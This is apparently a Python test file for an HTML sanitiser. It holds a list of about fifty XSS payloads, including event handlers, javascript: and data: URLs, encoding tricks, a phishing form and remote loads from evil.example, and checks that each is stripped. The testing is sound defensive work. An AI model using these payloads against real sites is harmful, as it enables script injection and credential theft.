import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shopfolio.lib.html import TAGS, as_text, in_column, marked, plain, safe, sanitise, with_notes

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onmouseover="alert(1)">x</p>',
    "<p id=cookie class=admin data-x=1>x</p>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- comment --><![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
]
ALLOWED = {
    "a": {"href", "rel"}, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"},
    "pre": {"tabindex", "role", "aria-label"},
}  # fmt: skip
"""That of <pre> is our own; what an author wrote of it is gone, as a test below shows."""


class Reader(HTMLParser):
    """Collects what a browser would be told that the sanitiser must never tell it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            address = "".join(value or "").strip().lower()
            if name not in ALLOWED.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and ":" in address and not address.startswith(("https:", "http:", "mailto:")):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")


def wrong_in(text: str) -> list[str]:
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader.wrong


OURS = re.compile(
    r'<sup><a href="#note-1"( id="call-1")? aria-label="Note 1">1</a></sup>|<ol class="notes">|</ol>'
    r'|<li id="note-1" value="1">|<a href="#call-1" aria-label="Back to the text">↩\ufe0e</a>|</li>'
    r'|<div class="table" tabindex="0" role="group" aria-label="Table">|</div>'
)
"""What is put around what an author wrote."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_loses_its_teeth(attack: str) -> None:
    assert wrong_in(attack) or "CDATA" in attack or "\x00" in attack, "the reader must see the attack itself"

    cleaned = safe(f"<p>before</p>{attack}<p>after</p>")

    assert wrong_in(OURS.sub("", cleaned)) == []
    assert "before" in cleaned


@given(st.text(alphabet="<>/\"'=&; \x00abhrefscriptonl:#jv!-", max_size=80))
def test_no_text_gets_past_the_sanitiser(text: str) -> None:
    cleaned = sanitise(text)

    assert wrong_in(cleaned) == []
    assert sanitise(cleaned) == cleaned


def test_what_an_author_may_write_stays() -> None:
    text = "<h2>Title</h2><p>A <strong>strong</strong> <em>word</em>.</p><ul><li>One</li></ul><hr>"

    assert sanitise(text) == text


def test_links_say_that_they_lead_away() -> None:
    assert sanitise('<a href="https://example.org/?a=1&amp;b=2">x</a>') == (
        '<a href="https://example.org/?a=1&amp;b=2" rel="noopener nofollow">x</a>'
    )


@pytest.mark.parametrize("empty", ["", "  ", "<p></p>", "<p><br></p>", "<script></script>"])
def test_an_empty_paragraph_is_no_text(empty: str) -> None:
    assert sanitise(empty) == ""


def test_the_keyboard_gets_to_code_which_scrolls() -> None:
    shown = safe("<pre><code>&lt;pre&gt;</code></pre>")

    assert shown == '<pre tabindex="0" role="group" aria-label="Code"><code>&lt;pre&gt;</code></pre>'


def test_the_keyboard_gets_to_a_table_which_scrolls() -> None:
    shown = safe("<table><tbody><tr><td>1</td></tr></tbody></table><pre><code>&lt;table&gt;</code></pre>")

    assert shown.startswith('<div class="table" tabindex="0" role="group" aria-label="Table"><table><tbody>')
    assert shown.count("<div") == shown.count("</table></div>") == 1


def test_code_keeps_no_attribute_that_its_author_wrote() -> None:
    written = '<pre tabindex="5" role="button" aria-label="x" onfocus="x()">a</pre>'

    assert sanitise(written) == "<pre>a</pre>"


def test_a_cell_names_its_column() -> None:
    assert in_column('<td class="x">3</td>', 'A "b"') == '<td data-column="A &quot;b&quot;" class="x">3</td>'


def test_plain_text_has_words_and_no_tags() -> None:
    assert plain("<p>One &amp; two</p><p>three<br>four &lt;b&gt;</p>") == "One & two three four <b>"


def test_rich_text_is_read_without_html() -> None:
    rich = (
        "<h2>Return &amp; refund</h2><p>Within <strong>14 days</strong>:<br>write to me.</p>"
        "<ul><li>By <a href='mailto:a@b.example'>mail</a></li><li><p><a href='/a/'>Here</a></p></li></ul>"
        "<table><tr><th>Country</th><th>Days</th></tr><tr><td>Portugal</td><td>2</td></tr></table>"
        '<p>See <a href="mailto:a@b.example">a@b.example</a>.</p><script>alert(1)</script>'
    )

    assert as_text(rich, site="https://c.example") == (
        "Return & refund\n\nWithin 14 days:\nwrite to me.\n- By mail (a@b.example)\n"
        "- Here (https://c.example/a/)\n\nCountry  Days\nPortugal  2\n\nSee a@b.example.\n"
    )


def test_points_keep_their_numbers_without_html() -> None:
    rich = "<ol><li>One<ul><li>of it</li></ul></li><li><p>Two</p></li></ol><p>See point 2.</p>"

    assert as_text(rich) == "1. One\n- of it\n2. Two\n\nSee point 2.\n"


def test_marked_text_is_escaped_inside_and_outside_of_its_marks() -> None:
    text = "<b>&\"'</b>"

    assert marked(text, [slice(0, 3)]) == "<mark>&lt;b&gt;</mark>&amp;&quot;&#x27;&lt;/b&gt;"
    assert marked(text, []) == "&lt;b&gt;&amp;&quot;&#x27;&lt;/b&gt;"


def test_marks_that_touch_become_one() -> None:
    assert marked("日本語です", [slice(1, 3), slice(0, 2)]) == "<mark>日本語</mark>です"
    assert marked("one two", [slice(0, 3), slice(4, 7)]) == "<mark>one</mark> <mark>two</mark>"


@given(st.text(alphabet="<>&\"'mark/ ab", max_size=30), st.lists(st.integers(0, 29), max_size=6))
def test_whatever_is_marked_reads_as_it_did(text: str, starts: list[int]) -> None:
    places = [slice(start, start + 2) for start in starts if start < len(text)]

    page = marked(text, places)

    assert html.unescape(page.replace("<mark>", "").replace("</mark>", "")) == text
    assert set(re.findall(r"<[^>]*>", page)) <= {"<mark>", "</mark>"}


def test_a_paragraph_that_begins_with_a_number_in_brackets_is_a_footnote() -> None:
    text = (
        "<p>The moon[1] and the sun[2]; the moon[1] again.</p><p>[1] Most <em>of</em> it.</p><p>[2] Less.</p>"
    )

    assert with_notes(text) == (
        '<p>The moon<sup><a href="#note-1" id="call-1" aria-label="Note 1">1</a></sup> and the '
        'sun<sup><a href="#note-2" id="call-2" aria-label="Note 2">2</a></sup>; the '
        'moon<sup><a href="#note-1" aria-label="Note 1">1</a></sup> again.</p>'
        '<ol class="notes"><li id="note-1" value="1">Most <em>of</em> it. '
        '<a href="#call-1" aria-label="Back to the text">↩\ufe0e</a></li>'
        '<li id="note-2" value="2">Less. '
        '<a href="#call-2" aria-label="Back to the text">↩\ufe0e</a></li></ol>'
    )


@pytest.mark.parametrize(
    "text",
    [
        "<p>One may write [1] for its own sake.</p>",
        "<p>Nothing calls it.</p><p>[1] A paragraph.</p>",
        "<p>Only code: <code>tide[1]</code>.</p><p>[1] A paragraph.</p>",
        '<p><a href="https://a.example/?x=[1]">A link</a></p><p>[1] A paragraph.</p>',
    ],
)
def test_what_only_looks_like_a_footnote_stays_as_it_is(text: str) -> None:
    assert with_notes(text) == safe(text)


def test_code_beside_a_footnote_is_left_alone() -> None:
    page = with_notes("<p>Tide[1]</p><pre><code>tide[1] = x[2]</code></pre><p>[1] A note.</p>")

    assert "<code>tide[1] = x[2]</code>" in page
    assert page.count("<sup>") == 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_footnote_brings_nothing_in(attack: str) -> None:
    page = with_notes(f"<p>x[1] {attack}</p><p>[1] {attack}</p>")

    assert wrong_in(OURS.sub("", page)) == []


@given(st.text(alphabet="<>/\"'=[1]&; aphrefpcode", max_size=80))
def test_no_text_gets_out_through_a_footnote(text: str) -> None:
    assert wrong_in(OURS.sub("", with_notes(f"<p>x[1]{text}</p><p>[1] y</p>"))) == []


def test_measures_hold_together_in_words_and_stay_as_they_are_in_code():
    page = safe("<p>Paper, 300 g, <code>sleep 3 s</code></p><pre>wait 4 s</pre>")

    assert "300\u00a0g" in page
    assert "sleep 3 s" in page
    assert "wait 4 s" in page
